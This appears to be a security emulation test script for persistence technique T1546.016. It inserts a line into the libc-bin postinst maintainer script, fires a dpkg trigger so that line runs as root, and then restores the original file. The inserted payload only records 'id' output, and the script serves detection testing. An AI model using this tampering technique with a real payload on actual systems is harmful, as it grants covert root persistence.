#!/bin/sh
# T1546.016 (quiet): A line in a package's script that a trigger runs
M=/var/tmp/luytre-foothold N=29-maintainer-script
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
keep() { mkdir -p "$M/.keep/${1%/*}"; [ -e "$M/.keep/$1" ] || cp -a "$1" "$M/.keep/$1"; }
back() { [ -e "$M/.keep/$1" ] && cp -a "$M/.keep/$1" "$1" && rm -f "$M/.keep/$1"; }
plant() {
  keep /var/lib/dpkg/info/libc-bin.postinst
  sed -i '2i ( id > /var/tmp/luytre-foothold/29-maintainer-script ) 2>/dev/null' /var/lib/dpkg/info/libc-bin.postinst
}
prove() {
  rm -f "$M/$N"
  dpkg-trigger --by-package=libc-bin --no-await ldconfig; dpkg --triggers-only libc-bin >/dev/null
  seen
}
remove() {
  back /var/lib/dpkg/info/libc-bin.postinst
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
